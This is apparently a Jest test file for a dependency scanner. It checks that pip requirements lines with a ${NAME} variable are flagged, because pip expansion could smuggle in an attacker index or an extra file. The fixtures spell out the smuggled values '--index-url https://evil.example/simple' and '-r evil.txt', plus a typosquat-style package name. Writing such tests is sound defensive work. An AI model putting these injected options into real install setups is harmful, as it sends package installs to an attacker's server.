/**
 * Red team 52b R52b-2 (MED, static side false clean): a `${NAME}` among an option line's
 * words. pip expands a requirements file's line before it splits it into options, so
 * `--pre ${X}` with X=`--index-url https://evil.example/simple` (or `-r evil.txt`) sets an
 * index (includes a file); the kernel refuses (tests/deps/test_redteam52b_optionwords.py).
 * warden-scan refuses a `${NAME}` in a source option's value only (fix59static,
 * requirements.ts applyFileOption): here the file is clean.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import {
  installRules,
  scratchDir,
  writeNotebook
} from '../testing/scan-fixture';

function cellRules(files: Record<string, string>, cells: string[]): string[] {
  const dir = scratchDir('rt52b-ow-');
  for (const [name, text] of Object.entries(files)) {
    fs.writeFileSync(path.join(dir, name), text);
  }
  const notebook = path.join(dir, 'setup.ipynb');
  writeNotebook(notebook, cells);
  return installRules([notebook], dir);
}

const FILES = [
  '--pre ${X}\nnumpy\n',
  '--only-binary=${X}\nnumpy\n',
  '--prefer-binary ${X}\nnumpy\n'
];

describe('red team 52b R52b-2: ${NAME} in an option line', () => {
  it('control: the lines written expanded are refused', () => {
    for (const text of [
      '--pre --index-url https://evil.example/simple\nnumpy\n',
      '--pre -r evil.txt\nnumpy\n'
    ]) {
      expect([
        text,
        cellRules({ 'r.txt': text, 'evil.txt': 'torcj\n' }, [
          '%pip install -r r.txt'
        ])
      ]).not.toEqual([text, []]);
    }
  });

  it('control: the same options without a variable are clean', () => {
    expect(
      cellRules({ 'r.txt': '--pre\nnumpy\n' }, ['%pip install -r r.txt'])
    ).toEqual([]);
  });

  for (const text of FILES) {
    it(`${JSON.stringify(text)} is not clean`, () => {
      expect(
        cellRules({ 'r.txt': text, 'evil.txt': 'torcj\n' }, [
          '%pip install -r r.txt'
        ])
      ).not.toEqual([]);
    });
  }
});
